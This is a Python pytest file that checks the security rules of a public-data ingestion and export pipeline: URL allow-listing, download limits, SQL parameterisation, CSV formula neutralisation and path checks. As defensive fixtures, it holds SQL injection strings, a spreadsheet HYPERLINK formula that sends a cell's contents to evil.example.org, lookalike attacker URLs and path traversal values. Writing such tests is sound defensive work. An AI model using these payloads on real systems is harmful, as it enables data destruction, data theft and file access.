"""Security rules, each with the protection it guards named in a comment. Rules already tested
in tests/test_fetch.py are not repeated: https only, host allow-list, file:// refused, redirect
to a host off the list, size cap by announcement and by stream, read timeout."""

from __future__ import annotations

import csv
import io
import time
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import duckdb
import pytest
from pytest_httpserver import HTTPServer
from werkzeug import Request, Response

from flows.espaces import espaces
from flows.pipeline import LoadFailed
from fsdata.config import sample_path
from fsdata.fetch import FetchRefused, TransientFetchError, check_url_allowed, fetch
from tests.helpers import query
from warehouse.archive import archive, archive_path
from warehouse.exports import export_table

SAMPLE_2024 = sample_path("espaces", "liste-fs-20240801.csv")
INJECTION = "'); drop table core.espaces; --"
FORMULA = '=HYPERLINK("https://evil.example.org/?x="&A1,"cliquez")'


# --- only https on the allow-list, redirects included ---------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "https://www.data.gouv.fr.evil.example.org/x.csv",  # the listed name as a prefix
        "https://www.data.gouv.fr@evil.example.org/x.csv",  # the listed name as user info
        "ftp://www.data.gouv.fr/x.csv",
        "https://localhost.evil.example.org/x.csv",  # loopback only by address or "localhost"
    ],
)
def test_lookalike_urls_are_refused(url: str) -> None:
    # Guards check_url_allowed's exact host match on the parsed host name.
    with pytest.raises(FetchRefused):
        check_url_allowed(url, ("www.data.gouv.fr",))


def test_redirect_downgrading_to_http_is_refused(httpserver: HTTPServer, tmp_path: Path) -> None:
    # Guards the check of every redirect target (an allowed host, but plain http).
    httpserver.expect_request("/r/stable").respond_with_response(
        Response(status=302, headers={"Location": "http://www.data.gouv.fr/liste.csv"})
    )
    with pytest.raises(FetchRefused, match="only https"):
        fetch(
            httpserver.url_for("/r/stable"),
            tmp_path,
            allowed_hosts=("www.data.gouv.fr",),
            max_bytes=1000,
            connect_timeout=1,
            read_timeout=1,
        )


@pytest.mark.usefixtures("prefect_server")
def test_refresh_never_reads_a_local_file(home: Path, tmp_path: Path) -> None:
    # Guards the allow-list on the configured source URL: a local file enters only through
    # `ingest`, never because a setting points `refresh` at it.
    secret = tmp_path / "liste.csv"
    secret.write_bytes(SAMPLE_2024.read_bytes())
    (home / "fsdata.toml").write_text(
        f'retry_delays = [0]\n[sources]\nespaces = "file://{secret}"\n', "utf-8"
    )
    with pytest.raises(LoadFailed, match="only https"):
        espaces(home=str(home))
    assert query(home, "select count(*) from raw.espaces") == [(0,)]
    assert query(home, "select status from meta.loads") == [("failed",)]
    assert not (home / "raw").exists()


# --- downloads capped in time ----------------------------------------------------------------


def test_a_trickling_download_is_cut_at_its_time_limit(
    httpserver: HTTPServer, tmp_path: Path
) -> None:
    # Guards fetch's total_timeout: each chunk arrives well within the read timeout, so only
    # a bound on the whole download stops a server that never finishes.
    def trickle(request: Request) -> Response:
        def body() -> Iterator[bytes]:
            for _ in range(30):
                time.sleep(0.1)
                yield b"id_fs,lib_fs\n"

        return Response(body(), direct_passthrough=True)

    httpserver.expect_request("/slow.csv").respond_with_handler(trickle)
    with pytest.raises(TransientFetchError, match="time limit"):
        fetch(
            httpserver.url_for("/slow.csv"),
            tmp_path / "tmp",
            allowed_hosts=(),
            max_bytes=1_000_000,
            connect_timeout=1,
            read_timeout=2,
            total_timeout=0.5,
        )
    assert not list((tmp_path / "tmp").glob("*.part"))


# --- values never become SQL; exports neutralise formulas ------------------------------------


@pytest.fixture(scope="module")
def hostile_home(prefect_server: None, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A listing whose names, ids and commune carry SQL fragments and spreadsheet formulas."""
    rows = list(csv.reader(io.StringIO(SAMPLE_2024.read_text("utf-8"))))
    header = rows[0]
    name, commune = header.index("lib_fs"), header.index("lib_com")
    rows[1][0] = INJECTION  # an identifier
    rows[1][name] = f"Maison {INJECTION}"
    rows[2][name] = FORMULA
    rows[3][name] = "+33 1 23 45 67 89"
    rows[4][name] = "-1+1"
    rows[5][name] = "@SUM(A1:A9)"
    rows[6][commune] = "Robert'); DELETE FROM meta.loads; --"
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    folder = tmp_path_factory.mktemp("hostile")
    listing = folder / "hostile.csv"
    listing.write_text(out.getvalue(), "utf-8")
    home = folder / "home"
    assert espaces(home=str(home), file=str(listing), as_of="2024-08-01")["status"] == "published"
    return home


def test_sql_fragments_in_values_are_stored_verbatim(hostile_home: Path) -> None:
    # Guards parameterised statements and Arrow registration in warehouse/espaces.py and db.py:
    # a value spliced into SQL text would break the statement or drop the table.
    by_id = "select name from core.espaces where espace_id = ?"
    assert query(hostile_home, by_id, [INJECTION]) == [(f"Maison {INJECTION}",)]
    assert query(hostile_home, "select count(*) from core.espaces") == [(10,)]
    communes = query(hostile_home, "select commune from core.espaces where commune like 'Robert%'")
    assert communes == [("Robert'); DELETE FROM meta.loads; --",)]
    assert query(hostile_home, "select count(*) from meta.loads") == [(1,)]


def csv_cells(path: Path, column: str) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [row[column] for row in csv.DictReader(handle)]


def test_csv_export_neutralises_formulas_and_parquet_keeps_them(hostile_home: Path) -> None:
    # Guards the quote prefix of warehouse/exports._csv_select on the flow's real exports.
    folder = hostile_home / "exports" / "espaces"
    cells = csv_cells(folder / "espaces_current.csv", "name")
    for value in (FORMULA, "+33 1 23 45 67 89", "-1+1", "@SUM(A1:A9)"):
        assert "'" + value in cells and value not in cells
    names = duckdb.sql(
        f"select name from read_parquet('{folder / 'espaces_current.parquet'}')"
    ).fetchall()
    assert (FORMULA,) in names and (f"'{FORMULA}",) not in names


def test_csv_export_neutralises_every_dangerous_first_character(tmp_path: Path) -> None:
    # Guards the full list of _csv_select (tab and CR included, which the listing parser trims
    # away before they could reach an export).
    con = duckdb.connect()
    con.execute("create table main.cells (value varchar)")
    dangerous = ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"]
    for value in [*dangerous, "plain", "a=b"]:
        con.execute("insert into main.cells values (?)", [value])
    written = export_table(con, "main.cells", tmp_path, "cells")
    (csv_file,) = [p for p in written if p.suffix == ".csv"]
    cells = csv_cells(csv_file, "value")
    assert cells == ["'" + value for value in dangerous] + ["plain", "a=b"]
    con.close()


# --- names cannot leave the home folder ------------------------------------------------------


@pytest.mark.parametrize("name", ["../x", "x/../../y", "/etc/passwd", "..", "", "X"])
def test_export_names_cannot_escape_the_dataset_folder(tmp_path: Path, name: str) -> None:
    # Guards exports._checked: the file name is a lower-case identifier, nothing else.
    con = duckdb.connect()
    con.execute("create table main.t as select 1 as a")
    with pytest.raises(ValueError, match="invalid export name"):
        export_table(con, "main.t", tmp_path / "dataset", name)
    con.close()
    assert not list(tmp_path.rglob("*.parquet")) and not list(tmp_path.rglob("*.csv"))


def test_export_table_must_exist_by_name(tmp_path: Path) -> None:
    # Guards exports._table_identifier: the table is looked up, not spliced into SQL.
    con = duckdb.connect()
    con.execute("create table main.t as select 1 as a")
    with pytest.raises(ValueError, match="no table"):
        export_table(con, "main.t; drop table main.t", tmp_path, "t")
    assert con.execute("select count(*) from main.t").fetchone() == (1,)
    con.close()


@pytest.mark.parametrize(
    ("source", "sha256"),
    [("../../etc", "a" * 64), ("espaces", "../../" + "a" * 58), ("espaces", "A" * 64)],
)
def test_archive_path_is_built_from_checked_parts(tmp_path: Path, source: str, sha256: str) -> None:
    # Guards archive.archive_path's checks of the source name and the checksum.
    with pytest.raises(ValueError, match="refusing archive name"):
        archive_path(tmp_path / "raw", source, date(2024, 8, 1), sha256, ".csv")


def test_archived_file_name_ignores_the_source_file_name(tmp_path: Path) -> None:
    # Guards archive_path's name: date, checksum prefix and a checked suffix only.
    hostile = tmp_path / "in" / "..%2f..%2fevil.c$v"
    hostile.parent.mkdir()
    hostile.write_bytes(b"id_fs\n1\n")
    target = archive(hostile, tmp_path / "raw", "espaces", date(2024, 8, 1), "b" * 64)
    assert target == tmp_path / "raw" / "espaces" / f"2024-08-01_{'b' * 16}.bin"
    assert target.read_bytes() == b"id_fs\n1\n"
